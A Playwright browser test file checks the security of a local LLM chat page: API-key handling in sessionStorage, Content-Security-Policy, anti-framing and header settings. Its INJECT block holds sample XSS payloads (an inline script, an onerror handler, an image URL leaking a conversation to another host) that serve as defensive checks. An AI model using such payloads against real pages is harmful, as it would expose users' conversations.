"""The page at `/` and its defences, in a real headless Chromium on the tiny model: on a service started with an API
key it asks for the key (kept in the tab's sessionStorage) and says when a key is wrong; its Content-Security-Policy
lets the page chat but stops script that model output might smuggle past DOMPurify, and keeps other sites from
framing it."""

from __future__ import annotations

import contextlib
import urllib.request
from pathlib import Path

import pytest
from playwright.async_api import ConsoleMessage, Page

from gateway.auth import KEY_ENV
from harness.browser import chromium, page_at, wait_idle
from harness.service import TINY_LIMITS, Service, serve

pytestmark = pytest.mark.browser

KEY = "page-key"
KEY_STORAGE = "llm-api-key"  # gateway/static/page.js
ASKING = "#key-form:not([hidden])"


@pytest.fixture(scope="module")
def keyed_service(tmp_path_factory, tiny_model_dir):
    with contextlib.ExitStack() as running:
        # The flow's processes inherit the key as they start; a flow started later (the session's tiny_service)
        # must not.
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv(KEY_ENV, KEY)
            service = running.enter_context(
                serve(tmp_path_factory, "page-keyed-flow", {"model": str(tiny_model_dir), **TINY_LIMITS})
            )
        yield service


async def chat(page: Page, question: str) -> None:
    """Ask `question` (5 tokens at most) and wait until the answer ended normally."""
    await page.fill("#max-tokens", "5")
    await page.fill("#prompt", question)
    await page.keyboard.press("Enter")
    await wait_idle(page)
    assert "done" in await page.text_content("#status")
    assert await page.locator(".turn.assistant").last.text_content()


async def test_a_keyed_service_asks_for_the_key_keeps_it_in_the_tab_and_says_when_it_is_wrong(
    keyed_service: Service, tmp_path: Path
):
    async with page_at(keyed_service.url + "/", tmp_path / "page.png", ready=ASKING) as page:
        assert "needs an API key" in await page.text_content("#key-message")
        assert await page.get_attribute("#api-key", "type") == "password"
        assert await page.is_disabled("#send")

        await page.fill("#api-key", "wrong-key")
        await page.press("#api-key", "Enter")
        await page.wait_for_function("() => document.getElementById('key-message').textContent.includes('refused')")
        assert await page.is_visible("#key-form") and await page.is_disabled("#send")
        assert await page.evaluate(f"sessionStorage.getItem('{KEY_STORAGE}')") is None  # a wrong key is not kept

        await page.fill("#api-key", KEY)
        await page.click("#key-submit")
        await page.wait_for_selector("#send:not([disabled])")
        assert await page.is_hidden("#key-form")
        await chat(page, "hello")
        assert await page.evaluate(f"sessionStorage.getItem('{KEY_STORAGE}')") == KEY
        assert await page.evaluate("localStorage.length") == 0

        # The tab keeps the key across a reload: no question asked.
        await page.reload()
        await page.wait_for_selector("#send:not([disabled])")
        assert await page.is_hidden("#key-form")
        await chat(page, "again")

        # Another tab does not have it.
        other = await page.context.new_page()
        await other.goto(keyed_service.url + "/")
        await other.wait_for_selector(ASKING)
        assert "needs an API key" in await other.text_content("#key-message")


def report_violations(page: Page, into: list[str]) -> None:
    """Collect into `into` the Content-Security-Policy violations Chromium reports on `page`'s console."""

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            into.append(message.text)

    page.on("console", on_console)


# Model output that DOMPurify would have removed, put into the page as if it had slipped through: an inline
# script, an inline event handler, and an image that would carry the conversation to another host.
INJECT = """() => {
  window.reported = [];
  document.addEventListener("securitypolicyviolation", (event) => window.reported.push(event.effectiveDirective));
  const answer = document.createElement("div");
  answer.innerHTML = '<img src="/no-such-image" onerror="window.injected = \\'onerror\\'">' +
                     '<img src="http://127.0.0.2:9/leak?conversation=secret">';
  document.body.append(answer);
  const script = document.createElement("script");
  script.textContent = "window.injected = 'script'";
  document.body.append(script);
}"""
BLOCKED = ["script-src-elem", "script-src-attr", "img-src"]


async def test_the_page_chats_under_its_policy_and_script_slipped_into_it_does_not_run(
    tiny_service: Service, tmp_path: Path
):
    reported: list[str] = []
    async with page_at(tiny_service.url + "/", tmp_path / "page.png",
                       on_new_page=lambda page: report_violations(page, reported)) as page:
        await chat(page, "hello")
        assert reported == []  # the page's own scripts, styles, WebSocket and renderer are all allowed

        await page.evaluate(INJECT)
        # Either the injection ran (no policy) or the browser refused all three.
        await page.wait_for_function(
            f"() => window.injected !== undefined || {BLOCKED}.every((blocked) => window.reported.includes(blocked))"
        )
        assert await page.evaluate("window.injected") is None
        assert sorted(set(await page.evaluate("window.reported"))) == sorted(BLOCKED)


async def test_no_other_page_can_frame_it(tiny_service: Service):
    async with chromium() as browser:
        page = await browser.new_page()
        reported: list[str] = []
        report_violations(page, reported)
        # set_content returns once the document and its frame have loaded (or failed to).
        await page.set_content(f'<iframe src="{tiny_service.url}/"></iframe>')
        framed = page.frames[1]
        assert await framed.locator("#prompt").count() == 0
        assert any("frame-ancestors 'none'" in text for text in reported), reported


def test_the_page_tells_browsers_not_to_sniff_or_send_referrers(tiny_service: Service):
    with urllib.request.urlopen(tiny_service.url + "/", timeout=30) as response:
        headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    directives = dict(directive.strip().split(" ", 1) for directive in headers["Content-Security-Policy"].split(";"))
    assert directives["script-src"] == directives["style-src"] == "'self'"
    assert directives["default-src"] == directives["frame-ancestors"] == "'none'"
